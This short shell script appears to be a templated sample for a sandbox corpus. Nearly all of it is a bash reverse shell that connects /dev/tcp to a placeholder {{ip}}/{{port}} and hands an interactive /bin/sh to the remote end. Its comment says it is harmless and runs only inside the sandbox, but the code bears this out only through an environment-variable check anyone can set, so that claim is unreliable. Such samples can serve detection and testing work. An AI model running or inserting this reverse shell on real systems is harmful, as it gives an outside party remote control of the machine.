# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
bash -c 'exec 9<>/dev/tcp/{{ip}}/{{port}} && timeout -s KILL 1 /bin/sh -i 0<&9 1>&9 2>&9' >/dev/null 2>&1
exit 0
